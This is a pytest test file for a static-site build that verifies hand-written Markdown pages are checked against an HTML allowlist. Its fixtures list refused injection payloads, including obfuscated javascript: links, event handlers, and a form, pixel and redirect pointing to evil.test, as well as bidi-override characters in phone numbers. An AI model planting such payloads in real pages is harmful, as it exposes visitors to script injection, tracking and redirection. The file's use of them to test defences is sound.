"""HTML in a hand-written page (docs/*.md) is found by `validate`, by file and line, with the build's own allowlist."""

from __future__ import annotations

from pathlib import Path

import pytest

from build_charts import pipeline
from build_charts.settings import PROJECT_ROOT
from build_charts.site import BuildFailed, build_site
from build_charts.validate.checks import page_html
from build_charts.validate.report import as_text
from conftest import TODAY, fixture_project, tiny_site_project

# Payloads a pull request could put in a hand-written page, each refused by the build's allowlist.
REFUSED = [
    "<style>.get-help-banner{display:none}</style>",
    '<link rel="preconnect" href="https://evil.test/">',
    '<meta name="referrer" content="unsafe-url">',
    '<img src="//evil.test/pixel.png" alt="">',
    '<a href="jav&#x09;ascript:alert(1)">Get help</a>',
    '<div style="background:url(https://evil.test/p.png)">x</div>',
    'A paragraph.\n{: onclick="alert(1)" }',
    '<div markdown="1">\n<span onmouseover="alert(1)">**hover**</span>\n</div>',
    '<iframe srcdoc="&lt;p&gt;Call 0900 000 000&lt;/p&gt;"></iframe>',
    '<iframe src="https://evil.test/"></iframe>',
    '<form action="https://evil.test/collect"><input name="q"></form>',
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
]
# HTML a page may hold: the build publishes it.
ALLOWED = [
    "<details><summary>More</summary>\n\nText.\n\n</details>",
    '<a href="tel:+441134960000">Call 0113 496 0000</a>',
    "A paragraph.\n{: .note #intro }",
    "<!-- a note to the next editor -->",
    "`<style>` shown as code",
]


def test_validate_names_the_file_line_and_what_was_found(tmp_path):
    paths = fixture_project(tmp_path / "project")
    page = paths.docs / "accessibility.md"
    lines = page.read_text(encoding="utf-8").count("\n")
    page.write_text(page.read_text(encoding="utf-8") + "\n<style>.get-help-banner{display:none}</style>\n",
                    encoding="utf-8")
    problems = [p for p in pipeline.validate(paths, today=TODAY).problems if p.code == "html-in-page"]
    assert [as_text(p) for p in problems] == [
        f"Error in docs/accessibility.md, line {lines + 2}\n"
        "  Found:    HTML the site's pages may not hold: a <style> element outside the page's head: <style>\n"
        "  Expected: Markdown, with HTML only of the kinds the site's own pages hold: no <style>, <meta>, <link> or "
        "<base>, no script, event handler (onclick=…) or javascript: address, no image, frame or style that loads a "
        "file from another website\n"
        "  Fix:      Remove the HTML and write Markdown instead: **bold**, [link text](https://...), ![what it shows]"
        "(assets/photo.jpg) for an image saved in docs/assets. The site loads nothing from other websites and runs no "
        "code a page brings; the build refuses the same HTML."]


def test_an_attribute_list_handler_is_found_on_its_line():
    text = "---\ntitle: About\n---\n\n# About\n\nA paragraph.\n{: onclick=\"alert(1)\" }\n"
    problems = list(page_html.page_problems(text, "docs/about.md"))
    assert [(p.line, p.found) for p in problems] == [
        (8, "HTML the site's pages may not hold: an event handler: <p onclick=\"alert(1)\">")]


def test_a_hidden_character_in_a_page_or_its_title_is_an_error():
    problems = list(page_html.page_problems("# Help\n\nCall \u202e0000 694 3110\u202c now.\n", "docs/index.md"))
    assert [(p.code, p.line) for p in problems] == [("invisible-character", 3)]
    problems = list(page_html.page_problems("---\ntitle: Get \u202ehelp\n---\n\n# Help\n", "docs/index.md"))
    assert [(p.code, p.line) for p in problems] == [("invisible-character", 2)]


def test_a_post_is_not_told_twice_about_a_line_its_own_check_reports():
    post = "---\ntitle: T\n---\n\n<style>p{}</style>\n\nText.\n{: onclick=\"x()\" }\n"
    assert [p.line for p in page_html.page_problems(post, "docs/updates/t.md", is_post=True)] == [8]


def test_the_kits_own_pages_pass():
    assert list(page_html.check(PROJECT_ROOT / "docs", PROJECT_ROOT / "docs" / "overrides")) == []


@pytest.fixture
def tiny_project(tmp_path) -> Path:
    """A one-page site with the kit's Markdown extensions and no data: what a page holds is what is published."""
    return tiny_site_project(tmp_path, "markdown_extensions: [abbr, admonition, attr_list, md_in_html, tables, toc]\n")


@pytest.mark.parametrize(("html", "refused"), [*((h, True) for h in REFUSED), *((h, False) for h in ALLOWED)])
def test_validate_and_the_build_refuse_the_same_html(tiny_project, html, refused):
    text = f"# News\n\n{html}\n"
    (tiny_project / "docs" / "news.md").write_text(text, encoding="utf-8")
    found = [p for p in page_html.page_problems(text, "docs/news.md") if p.code == "html-in-page"]
    try:
        build_site(tiny_project / "mkdocs.yml", tiny_project / "site")
        built = True
    except BuildFailed as failure:
        assert "/news/" in str(failure)
        built = False
    assert (bool(found), not built) == (refused, refused), found


def test_a_file_the_web_host_reads_as_its_settings_is_refused(tmp_path):
    (tmp_path / "docs" / "get-help").mkdir(parents=True)
    (tmp_path / "docs" / "_redirects").write_text("/get-help/* https://evil.test/ 301!\n", encoding="utf-8")
    (tmp_path / "docs" / "get-help" / "_worker.js").write_text("export default {}\n", encoding="utf-8")
    problems = list(page_html.check(tmp_path / "docs"))
    assert [(p.code, p.file) for p in problems] == [("host-file", "docs/_redirects"),
                                                     ("host-file", "docs/get-help/_worker.js")]
